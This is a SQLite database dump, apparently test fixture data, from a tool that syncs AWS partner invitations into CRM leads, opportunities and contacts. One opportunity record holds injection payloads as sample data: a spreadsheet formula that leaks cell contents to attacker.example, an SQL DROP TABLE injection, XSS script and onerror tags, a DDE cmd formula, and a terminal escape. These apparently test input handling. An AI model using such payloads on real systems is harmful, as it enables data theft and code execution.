BEGIN TRANSACTION;
CREATE TABLE about (
	name TEXT NOT NULL, 
	value TEXT, 
	PRIMARY KEY (name)
);
INSERT INTO "about" VALUES('schema_version','1');
CREATE TABLE invitations (
	id TEXT NOT NULL, 
	status TEXT NOT NULL, 
	summary_digest TEXT NOT NULL, 
	digest TEXT NOT NULL, 
	fingerprint TEXT NOT NULL, 
	outcome TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	links TEXT NOT NULL, 
	run_id INTEGER NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "invitations" VALUES('engi-e4emptyamoun0','PENDING','3063d8425fe0f1bb7f44cef01fcd4c2f','3063d8425fe0f1bb7f44cef01fcd4c2f','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_4xuvinbugy67qag5"]}',1);
INSERT INTO "invitations" VALUES('engi-e3thirtyonedi','ACCEPTED','353d41b098f7bc36ca7847cb56d9a991','353d41b098f7bc36ca7847cb56d9a991','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_26jydsidzp6ikkks"],"opportunity":["opportunities","opp_rydj664hyimuignh"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_3xehxao6p726wilg"]}',1);
INSERT INTO "invitations" VALUES('engi-g1emailonly10','ACCEPTED','9fddccf42c4cc09fb2d3fa5b925f8a90','9fddccf42c4cc09fb2d3fa5b925f8a90','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_ijxkqszckicn6y67"],"opportunity":["opportunities","opp_mj6yblyepgwah4j6"],"contact[0]":["contacts","con_hrokxdnkt54e5wyo"],"contact[1]":["contacts","con_izhmi266g3o7psiw"],"contact_role[0]":["opportunity_contact_roles","ocr_52rcxlxlmsu235zx"],"contact_role[1]":["opportunity_contact_roles","ocr_5oclaik7jurtvppp"]}',1);
INSERT INTO "invitations" VALUES('engi-n1norway00001','ACCEPTED','2a197631055b4299ab270e9f308ed10d','2a197631055b4299ab270e9f308ed10d','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_cmjmdwozp5g2ugli"],"opportunity":["opportunities","opp_eopnssrxyle6jvlr"],"contact[0]":["contacts","con_nwzks46u7lvpjjqq"],"contact_role[0]":["opportunity_contact_roles","ocr_jjiouhrih6x2jpoa"]}',1);
INSERT INTO "invitations" VALUES('engi-h1cuttitle010','ACCEPTED','db95d811bc04a23cca1349fdc12bcdd4','db95d811bc04a23cca1349fdc12bcdd4','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_dlcutx5u2prxsfu4"],"opportunity":["opportunities","opp_e4jnen2efjikkdwq"],"contact[0]":["contacts","con_kquhkhnyufe462rk"],"contact_role[0]":["opportunity_contact_roles","ocr_cd4ftgvcxoe6q6li"]}',1);
INSERT INTO "invitations" VALUES('engi-k1expired0010','EXPIRED','3403fbd1fc3b1b1679a8ff87cad83909','3403fbd1fc3b1b1679a8ff87cad83909','50912857ccbbefdb93b52afd70071553','skipped','there is no leads to update; there is no opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-h2expires2030','PENDING','23fcd48efbae0d7312ed8fc151b23e88','23fcd48efbae0d7312ed8fc151b23e88','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_umuhjrmeznty2opw"]}',1);
INSERT INTO "invitations" VALUES('engi-d1hostiletit0','ACCEPTED','0101e14556ef8f1775cfdfab33b5912b','0101e14556ef8f1775cfdfab33b5912b','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_bw7lcmgu75w5azns"],"opportunity":["opportunities","opp_yhh6tcquueflxsqy"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_j4i7tjougbp6zscf"]}',1);
INSERT INTO "invitations" VALUES('engi-p1leadpendin0','PENDING','c65011201376db0898206f4a19dbf788','c65011201376db0898206f4a19dbf788','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_2lvizfjyusxfwxls"]}',1);
INSERT INTO "invitations" VALUES('engi-q1leadaccept0','ACCEPTED','bb017a7de487fd72ea97151870d29855','bb017a7de487fd72ea97151870d29855','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_qrfehidg6bznnth4"]}',1);
INSERT INTO "invitations" VALUES('engi-q2leadreject0','REJECTED','8494620b08cfe4cbb360b7d46f7dde02','8494620b08cfe4cbb360b7d46f7dde02','50912857ccbbefdb93b52afd70071553','skipped','there is no leads to update; there is no opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-q3leadexpire0','EXPIRED','0d85d39c28d013b7d032594dac688003','0d85d39c28d013b7d032594dac688003','50912857ccbbefdb93b52afd70071553','skipped','there is no leads to update; there is no opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-q4leadminima0','PENDING','48901d754218ec7083fa6b8dce0f156f','48901d754218ec7083fa6b8dce0f156f','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_5kmqd6ja4yxjamrr"]}',1);
INSERT INTO "invitations" VALUES('engi-e5nospend0010','ACCEPTED','f4beaa6eec43b56eff98b69c1a7e1769','f4beaa6eec43b56eff98b69c1a7e1769','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_6z34sbe4dobclsxe"],"opportunity":["opportunities","opp_uf77xeiuekppvidc"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_74bsbs6k5qxvm5tm"]}',1);
INSERT INTO "invitations" VALUES('engi-f1nulleveryw0','ACCEPTED','de6d7dde9e925b5252a5f6279025ddc7','de6d7dde9e925b5252a5f6279025ddc7','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_ilklxabhrlchta63"],"opportunity":["opportunities","opp_ugksydk7v3ksugcp"]}',1);
INSERT INTO "invitations" VALUES('engi-a2warehouse10','ACCEPTED','f42084f36ba2a27b5d11dbf8e72fc4af','f42084f36ba2a27b5d11dbf8e72fc4af','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_nl4xnhraqjhrdwzw"],"opportunity":["opportunities","opp_6t737qmvx6i7q5ya"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact[1]":["contacts","con_kquhkhnyufe462rk"],"contact_role[0]":["opportunity_contact_roles","ocr_gtntdzbcxgbopsum"],"contact_role[1]":["opportunity_contact_roles","ocr_opgdln4af4lxx4xw"]}',1);
INSERT INTO "invitations" VALUES('engi-a1coldchain01','PENDING','71ba4f64f92ecf3fd3546a8266926e6f','71ba4f64f92ecf3fd3546a8266926e6f','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_suaums4d7enw2p5t"]}',1);
INSERT INTO "invitations" VALUES('engi-m1nopayload10','PENDING','2317639fbde73589ff89a35d645938f7','2317639fbde73589ff89a35d645938f7','50912857ccbbefdb93b52afd70071553','skipped','no rule''s `when` holds for it','{}',1);
INSERT INTO "invitations" VALUES('engi-m2newpayload0','PENDING','c495403be322801cdc044cfb0c518943','c495403be322801cdc044cfb0c518943','50912857ccbbefdb93b52afd70071553','skipped','no rule''s `when` holds for it','{}',1);
INSERT INTO "invitations" VALUES('engi-e2frequencie0','PENDING','40aafba04085f2d02ec1eb3eebdf6097','40aafba04085f2d02ec1eb3eebdf6097','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_54dvkzkdlbi3qmqv"]}',1);
INSERT INTO "invitations" VALUES('engi-k2rejected010','REJECTED','76a31dc76ac9af3a82619a0b2c7afe1b','76a31dc76ac9af3a82619a0b2c7afe1b','50912857ccbbefdb93b52afd70071553','skipped','there is no leads to update; there is no opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-a3clickncoll0','ACCEPTED','46e13f0517138f6d4e8eba1936ce466f','46e13f0517138f6d4e8eba1936ce466f','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_nl4xnhraqjhrdwzw"],"opportunity":["opportunities","opp_int3ifjvlanqswpo"],"contact[0]":["contacts","con_kquhkhnyufe462rk"],"contact_role[0]":["opportunity_contact_roles","ocr_xbcvibkjaslcx5a7"]}',1);
INSERT INTO "invitations" VALUES('engi-b2dataplatf20','ACCEPTED','8884d92e26448813be8764f1fd8b025b','8884d92e26448813be8764f1fd8b025b','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_lwbbwexoxz2zs2ms"],"opportunity":["opportunities","opp_qdxdvoc7zuiiw3rb"],"contact[0]":["contacts","con_kquhkhnyufe462rk"],"contact_role[0]":["opportunity_contact_roles","ocr_mxycxwfsj2cxo4jb"]}',1);
INSERT INTO "invitations" VALUES('engi-b1dataplatf10','ACCEPTED','ec5dfe614f9278888ef19ea99578a041','ec5dfe614f9278888ef19ea99578a041','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_d2nocmd3cffxkhdv"],"opportunity":["opportunities","opp_edbuo7fndezmpwc2"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_rwcq7xbvgk3q25fu"]}',1);
INSERT INTO "invitations" VALUES('engi-e1currencies0','ACCEPTED','5978efe0ca1c84b1f411fb13f598817b','5978efe0ca1c84b1f411fb13f598817b','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_ys4xgkqz2m5zfyhg"],"opportunity":["opportunities","opp_z7romdgoebu5k2lv"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_bxgqk3g3njbkvywo"]}',1);
INSERT INTO "invitations" VALUES('engi-d2otherscrip0','ACCEPTED','d96540c942dde1aab33c3b6842d2f2bf','d96540c942dde1aab33c3b6842d2f2bf','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_yy57lcmeilzdhj5y"],"opportunity":["opportunities","opp_ba3mzb7ucsjdrgwt"],"contact[0]":["contacts","con_tsedzyw6edqapfp6"],"contact_role[0]":["opportunity_contact_roles","ocr_glz2sxjgy3jglhln"]}',1);
INSERT INTO "invitations" VALUES('engi-c1longtitle10','ACCEPTED','814daf75d80b966be034e755bc5d376c','814daf75d80b966be034e755bc5d376c','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_d2b2jgjotolanpfp"],"opportunity":["opportunities","opp_i6pwozp67yhncmck"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_6t3igqn65drhs3du"]}',1);
INSERT INTO "invitations" VALUES('engi-c2longtitle20','ACCEPTED','59a2e330a5dbfcf1217589e6c6f91726','59a2e330a5dbfcf1217589e6c6f91726','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_d2b2jgjotolanpfp"],"opportunity":["opportunities","opp_ddfqgscmhmv2mlj4"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_5oqepi7opbkacez6"]}',1);
INSERT INTO "invitations" VALUES('engi-p2unknownmem0','PENDING','c4d0c84a8ca0c74fba3fb4248b578b34','c4d0c84a8ca0c74fba3fb4248b578b34','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_cmhfwj4z6rb5uvjh"]}',1);
INSERT INTO "invitations" VALUES('engi-f2websitenul0','ACCEPTED','7bf1c7361f9c15614057c33505955230','7bf1c7361f9c15614057c33505955230','50912857ccbbefdb93b52afd70071553','created','','{"account":["accounts","acc_xiirrp6a2pmi5hnf"],"opportunity":["opportunities","opp_yxqxbekbkspxxwoy"],"contact[0]":["contacts","con_c75yuox4a64g22lj"],"contact_role[0]":["opportunity_contact_roles","ocr_b23ecvkler5s2lrn"]}',1);
INSERT INTO "invitations" VALUES('engi-f3noscheme010','PENDING','39080c7f852209f7acf1e0da2bd5e3f1','39080c7f852209f7acf1e0da2bd5e3f1','50912857ccbbefdb93b52afd70071553','created','','{"lead":["leads","led_w36a6qbuxxt5c2ir"]}',1);
CREATE TABLE journal (
	id INTEGER NOT NULL, 
	run_id INTEGER NOT NULL, 
	entries TEXT NOT NULL, 
	PRIMARY KEY (id)
);
CREATE TABLE outcomes (
	run_id INTEGER NOT NULL, 
	invitation_id TEXT NOT NULL, 
	outcome TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	warnings TEXT NOT NULL, 
	PRIMARY KEY (run_id, invitation_id)
);
INSERT INTO "outcomes" VALUES(1,'engi-e4emptyamoun0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e3thirtyonedi','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-g1emailonly10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-n1norway00001','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-h1cuttitle010','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-k1expired0010','skipped','there is no leads to update; there is no opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-h2expires2030','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-d1hostiletit0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-p1leadpendin0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q1leadaccept0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q2leadreject0','skipped','there is no leads to update; there is no opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q3leadexpire0','skipped','there is no leads to update; there is no opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q4leadminima0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e5nospend0010','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-f1nulleveryw0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-a2warehouse10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-a1coldchain01','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-m1nopayload10','skipped','no rule''s `when` holds for it','[]');
INSERT INTO "outcomes" VALUES(1,'engi-m2newpayload0','skipped','no rule''s `when` holds for it','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e2frequencie0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-k2rejected010','skipped','there is no leads to update; there is no opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-a3clickncoll0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-b2dataplatf20','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-b1dataplatf10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e1currencies0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-d2otherscrip0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-c1longtitle10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-c2longtitle20','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-p2unknownmem0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-f2websitenul0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-f3noscheme010','created','','[]');
CREATE TABLE reads (
	minute INTEGER NOT NULL, 
	count INTEGER NOT NULL, 
	PRIMARY KEY (minute)
);
CREATE TABLE reviews (
	id INTEGER NOT NULL, 
	invitation_id TEXT NOT NULL, 
	name TEXT NOT NULL, 
	object TEXT NOT NULL, 
	title TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	candidates TEXT NOT NULL, 
	run_id INTEGER NOT NULL, 
	action TEXT, 
	record_id TEXT, 
	PRIMARY KEY (id), 
	UNIQUE (invitation_id, name)
);
CREATE TABLE runs (
	id INTEGER NOT NULL, 
	command TEXT NOT NULL, 
	started_at TEXT NOT NULL, 
	finished_at TEXT, 
	state TEXT NOT NULL, 
	counts TEXT NOT NULL, 
	calls TEXT NOT NULL, 
	note TEXT NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "runs" VALUES(1,'sync','2026-11-23T09:00:01.991093+00:00','2026-11-23T09:00:02.069149+00:00','done','{"created":25,"skipped":6}','{"partnercentral-selling":{},"sql":{"find":5,"find_titles":2,"write":5,"create":62}}','');
CREATE TABLE written (
	object TEXT NOT NULL, 
	"key" TEXT NOT NULL, 
	record_id TEXT NOT NULL, 
	fields TEXT NOT NULL, 
	created_run INTEGER, 
	PRIMARY KEY (object, "key")
);
INSERT INTO "written" VALUES('leads','engi-e4emptyamoun0','led_4xuvinbugy67qag5','{"company":"Pigeon Parcels","website":"https://pigeonparcels.example","industry":"Transportation and Logistics","country_code":"CA","country":"Canada","status":"New","project_title":"Call center assistant","description":"Half of all calls ask where a parcel is. An assistant should answer these.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","currency":"USD","close_date":"2026-07-01"}',1);
INSERT INTO "written" VALUES('accounts','large-numbers.example','acc_26jydsidzp6ikkks','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-e3thirtyonedi','opp_rydj664hyimuignh','{"name":"National statistics archive","account_id":"acc_26jydsidzp6ikkks","amount":"14814814681481481468148148146814.76","monthly_spend":"1234567890123456789012345678901.23","currency":"USD","close_date":"2030-01-01","industry":"Government","description":"An amount as large as the service takes. Whoever reads it as a floating point number loses its end.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','ines.okafor@aws.example','con_c75yuox4a64g22lj','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-e3thirtyonedi/ines.okafor@aws.example','ocr_3xehxao6p726wilg','{"opportunity_id":"opp_rydj664hyimuignh","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('accounts','meridian-tooling.example','acc_ijxkqszckicn6y67','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-g1emailonly10','opp_mj6yblyepgwah4j6','{"name":"Virtual desktops","account_id":"acc_ijxkqszckicn6y67","amount":"26400.00","monthly_spend":"2200.00","currency":"USD","close_date":"2026-09-30","industry":"Manufacturing","description":"Engineers carry two laptops each, one of them for the customer''s network only.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','noor.el-amin@aws.example','con_hrokxdnkt54e5wyo','{}',1);
INSERT INTO "written" VALUES('contacts','alliances@aws.example','con_izhmi266g3o7psiw','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-g1emailonly10/noor.el-amin@aws.example','ocr_52rcxlxlmsu235zx','{"opportunity_id":"opp_mj6yblyepgwah4j6","contact_id":"con_hrokxdnkt54e5wyo"}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-g1emailonly10/alliances@aws.example','ocr_5oclaik7jurtvppp','{"opportunity_id":"opp_mj6yblyepgwah4j6","contact_id":"con_izhmi266g3o7psiw"}',1);
INSERT INTO "written" VALUES('accounts','fjordlaks.example','acc_cmjmdwozp5g2ugli','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-n1norway00001','opp_eopnssrxyle6jvlr','{"name":"Fish farm cameras","account_id":"acc_cmjmdwozp5g2ugli","amount":"11160.00","monthly_spend":"930.00","currency":"USD","close_date":"2027-04-01","industry":"Agriculture","description":"Sick fish are found by divers, days too late. Cameras in the nets and a model should find them on the first day.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','sigrid.aune@aws.example','con_nwzks46u7lvpjjqq','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-n1norway00001/sigrid.aune@aws.example','ocr_jjiouhrih6x2jpoa','{"opportunity_id":"opp_eopnssrxyle6jvlr","contact_id":"con_nwzks46u7lvpjjqq"}',1);
INSERT INTO "written" VALUES('accounts','cutter.example','acc_dlcutx5u2prxsfu4','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-h1cuttitle010','opp_e4jnen2efjikkdwq','{"name":"Partner Project Title - this field is not cut here, only in the engagement","account_id":"acc_dlcutx5u2prxsfu4","amount":"9600.00","monthly_spend":"800.00","currency":"USD","close_date":"2026-12-15","industry":"Wholesale and Distribution","description":"Whoever matches by EngagementTitle takes all projects that begin alike for one.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','tomas.lindqvist@aws.example','con_kquhkhnyufe462rk','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-h1cuttitle010/tomas.lindqvist@aws.example','ocr_cd4ftgvcxoe6q6li','{"opportunity_id":"opp_e4jnen2efjikkdwq","contact_id":"con_kquhkhnyufe462rk"}',1);
INSERT INTO "written" VALUES('leads','engi-h2expires2030','led_umuhjrmeznty2opw','{"company":"State of Example, Department of Records","website":"https://records.state.example","industry":"Government","country_code":"US","country":"United States","status":"New","project_title":"Ten year framework","description":"A framework contract for all agencies of the state, to be filled over ten years.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"144000.00","currency":"USD","close_date":"2036-12-31"}',1);
INSERT INTO "written" VALUES('accounts','obrien-sons.example','acc_bw7lcmgu75w5azns','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-d1hostiletit0','opp_yhh6tcquueflxsqy','{"name":"=HYPERLINK(\"http://attacker.example/?\"&A1,\"Robert''); DROP TABLE opportunities;--\")\r\n<script>alert(''title'')</script> {{ I","account_id":"acc_bw7lcmgu75w5azns","amount":"36000.00","monthly_spend":"3000.00","currency":"USD","close_date":"2026-10-01","industry":"Professional Services","description":"'' OR Id != '''' ORDER BY Amount DESC LIMIT 1 -- and a backslash \\ at the end of a line \\\nas text, all of it.\n\n@SUM(1+1)*cmd|'' /C calc''!A0\n<img src=x onerror=alert(1)>\n\u001b]0;owned\u0007 and \"quotes\" and ''more''"}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-d1hostiletit0/ines.okafor@aws.example','ocr_j4i7tjougbp6zscf','{"opportunity_id":"opp_yhh6tcquueflxsqy","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('leads','engi-p1leadpendin0','led_2lvizfjyusxfwxls','{"company":"Wren & Gable Architects","website":"https://wrengable.example","industry":"Professional Services","country_code":"US","country":"United States","segment":"Small","aws_maturity":"Evaluating","title":"Head of IT","status":"New","source_name":"Analytics spring campaign 2026","use_case":"Analytics","description":"Lead from a recent campaign\n\nWe have a qualified lead that matches your expertise. Would you like to collaborate?"}',1);
INSERT INTO "written" VALUES('leads','engi-q1leadaccept0','led_qrfehidg6bznnth4','{"company":"Perch Analytics","website":"https://perch.example","industry":"Software and Internet","country_code":"SE","country":"Sweden","segment":"Medium","aws_maturity":"Established","title":"CTO","status":"Accepted","source_name":"Migration roundtable","use_case":"Migration","description":"We have a qualified lead that matches your expertise. Would you like to collaborate?"}',1);
INSERT INTO "written" VALUES('leads','engi-q4leadminima0','led_5kmqd6ja4yxjamrr','{"company":"Only A Name Inc","title":"Owner","status":"New"}',1);
INSERT INTO "written" VALUES('accounts','alderfinch.example','acc_6z34sbe4dobclsxe','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-e5nospend0010','opp_uf77xeiuekppvidc','{"name":"Backup for the branch offices","account_id":"acc_6z34sbe4dobclsxe","close_date":"2026-06-30","industry":"Real Estate and Construction","description":"Branch offices back up to tapes that nobody has ever read back.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-e5nospend0010/ines.okafor@aws.example','ocr_74bsbs6k5qxvm5tm','{"opportunity_id":"opp_uf77xeiuekppvidc","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('accounts','engi-f1nulleveryw0','acc_ilklxabhrlchta63','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-f1nulleveryw0','opp_ugksydk7v3ksugcp','{"name":"AWS invitation engi-f1nulleveryw0","account_id":"acc_ilklxabhrlchta63"}',1);
INSERT INTO "written" VALUES('accounts','lumenoutdoor.example','acc_nl4xnhraqjhrdwzw','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-a2warehouse10','opp_6t737qmvx6i7q5ya','{"name":"Warehouse forecasting","account_id":"acc_nl4xnhraqjhrdwzw","amount":"150000.00","monthly_spend":"12500.00","currency":"USD","close_date":"2026-09-15","industry":"Retail","description":"Stock is ordered by rule of thumb, and one order in six comes too late. Forecasts from sales data are wanted.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-a2warehouse10/ines.okafor@aws.example','ocr_gtntdzbcxgbopsum','{"opportunity_id":"opp_6t737qmvx6i7q5ya","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-a2warehouse10/tomas.lindqvist@aws.example','ocr_opgdln4af4lxx4xw','{"opportunity_id":"opp_6t737qmvx6i7q5ya","contact_id":"con_kquhkhnyufe462rk"}',1);
INSERT INTO "written" VALUES('leads','engi-a1coldchain01','led_suaums4d7enw2p5t','{"company":"Harbor & Vale Foods","website":"https://www.harborvale.example","industry":"Retail","country_code":"US","country":"United States","status":"New","project_title":"Cold chain telemetry","description":"Spoiled goods are found on delivery only. Temperatures must be watched while the trucks drive.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"50400.00","currency":"USD","close_date":"2026-11-30"}',1);
INSERT INTO "written" VALUES('leads','engi-e2frequencie0','led_54dvkzkdlbi3qmqv','{"company":"Fennel Street Clinics","website":"https://www.fennelclinics.example","industry":"Healthcare","country_code":"NL","country":"Netherlands","status":"New","project_title":"Invoice archive","description":"Ten years of invoices must be kept, found within a minute, and deleted in time.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"12192.00","currency":"USD","close_date":"2026-08-31"}',1);
INSERT INTO "written" VALUES('opportunities','engi-a3clickncoll0','opp_int3ifjvlanqswpo','{"name":"Click and collect","account_id":"acc_nl4xnhraqjhrdwzw","amount":"21600.00","monthly_spend":"1800.00","currency":"USD","close_date":"2027-01-31","industry":"Retail","description":"Customers want to order online and collect in the shop on the same day; the tills know nothing of the web shop.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-a3clickncoll0/tomas.lindqvist@aws.example','ocr_xbcvibkjaslcx5a7','{"opportunity_id":"opp_int3ifjvlanqswpo","contact_id":"con_kquhkhnyufe462rk"}',1);
INSERT INTO "written" VALUES('accounts','tallis-biologics.example','acc_lwbbwexoxz2zs2ms','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-b2dataplatf20','opp_qdxdvoc7zuiiw3rb','{"name":"Data platform","account_id":"acc_lwbbwexoxz2zs2ms","amount":"109200.00","monthly_spend":"9100.00","currency":"USD","close_date":"2026-12-01","industry":"Life Sciences","description":"Research data lies on laboratory computers. It should be in one place, with access by project.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-b2dataplatf20/tomas.lindqvist@aws.example','ocr_mxycxwfsj2cxo4jb','{"opportunity_id":"opp_qdxdvoc7zuiiw3rb","contact_id":"con_kquhkhnyufe462rk"}',1);
INSERT INTO "written" VALUES('accounts','quayside.example','acc_d2nocmd3cffxkhdv','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-b1dataplatf10','opp_edbuo7fndezmpwc2','{"name":"Data platform","account_id":"acc_d2nocmd3cffxkhdv","amount":"90000.00","monthly_spend":"7500.00","currency":"USD","close_date":"2026-12-01","industry":"Financial Services","description":"Reports are made by hand from nine systems, and no two of them agree on last month''s revenue.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-b1dataplatf10/ines.okafor@aws.example','ocr_rwcq7xbvgk3q25fu','{"opportunity_id":"opp_edbuo7fndezmpwc2","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('accounts','saltmarsh.example','acc_ys4xgkqz2m5zfyhg','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-e1currencies0','opp_z7romdgoebu5k2lv','{"name":"One storefront for four markets","account_id":"acc_ys4xgkqz2m5zfyhg","amount":"57607.62","monthly_spend":"4800.64","currency":"USD","close_date":"2026-12-31","industry":"Consumer Goods","description":"Four shops in four countries are run by four agencies, and every price is kept in each of them.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-e1currencies0/ines.okafor@aws.example','ocr_bxgqk3g3njbkvywo','{"opportunity_id":"opp_z7romdgoebu5k2lv","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('accounts','minato-logistics.example','acc_yy57lcmeilzdhj5y','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-d2otherscrip0','opp_ba3mzb7ucsjdrgwt','{"name":"مشروع ترحيل مركز البيانات 🚀 ‮ABC‬ データ基盤 Größe ﬁnal №5","account_id":"acc_yy57lcmeilzdhj5y","amount":"402000.00","monthly_spend":"33500.00","currency":"USD","close_date":"2027-03-01","industry":"Transportation and Logistics","description":"データセンターを閉鎖し、すべてのシステムをクラウドへ移行します。期限は来年の三月です。\n\nご検討をお願いいたします。 شكرا جزيلا 🙏"}',1);
INSERT INTO "written" VALUES('contacts','haruka.ono@aws.example','con_tsedzyw6edqapfp6','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-d2otherscrip0/haruka.ono@aws.example','ocr_glz2sxjgy3jglhln','{"opportunity_id":"opp_ba3mzb7ucsjdrgwt","contact_id":"con_tsedzyw6edqapfp6"}',1);
